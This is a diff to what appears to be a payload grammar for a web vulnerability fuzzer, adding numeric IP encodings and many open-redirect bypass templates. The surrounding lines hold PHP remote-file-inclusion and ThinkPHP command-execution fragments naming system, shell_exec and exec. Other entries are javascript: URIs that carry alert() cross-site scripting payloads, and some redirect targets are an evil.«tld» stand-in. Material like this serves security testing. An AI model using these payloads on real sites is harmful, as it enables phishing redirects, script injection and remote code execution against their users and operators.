@@ -298,6 +298,9 @@ php:
   GLOBALS[«w»]=«n»
   mosConfig_absolute_path=http://«host»/«shell».txt?
 thinkphp = system phpinfo md5 shell_exec assert passthru exec
+octal = 00«digit(2)» 0«nz»«digit(1)» 0000«digit(2)»
+hexbyte = 0x«hex(2)»
+numerichost = 0x«hex(8)» «nz»«digit(8-9)» 0«digit(10)» «octal».«octal».«octal».«octal» «hexbyte».«hexbyte».«hexbyte».«hexbyte» «hexbyte».«octal».«digit(5)» «octal».«digit(7)»
 redirect:
   //«host»
   //«host»/
@@ -341,6 +344,31 @@ redirect:
   https://google.com@«host»
   https://«host»/«w»
   http://«host»/«w»/login
+  //«w».«tld»@«host»/%2f..
+  ///«w».«tld»@«host»/%2e%2e
+  ////«w».«tld»@«host»/
+  /https://«host»/
+  /https://«w».«tld»@«host»/
+  /http:«host»
+  http://«w».«tld»@«numerichost»
+  http://«numerichost»/
+  http:«numerichost»
+  http:«w».«tld»@«numerichost»
+  http://«w»:«w»@«numerichost»/
+  https://«host»:80#@«w».«tld»/
+  http://«host»:80?@«w».«tld»/
+  http://«host»\@«w».«tld»
+  http://«host»\.«w».«tld»
+  //«host»\t«w».«tld»/
+  //«w»%00.«tld»
+  http://«w».«tld»+@«host»/
+  http://«w».«tld»%2e«host»/
+  //«w»@«w».«tld»@«host»/
+  //%09/«host»
+  https:///«host»/%2e%2e
+  <>//«host»
+  javascript://«w».«tld»/%0aalert(«n»)
+  javascript://«w».«tld»?%a0alert%28«n»%29
   //google.com/%2f..
   https://evil.«tld»
   https://evil.«tld»/
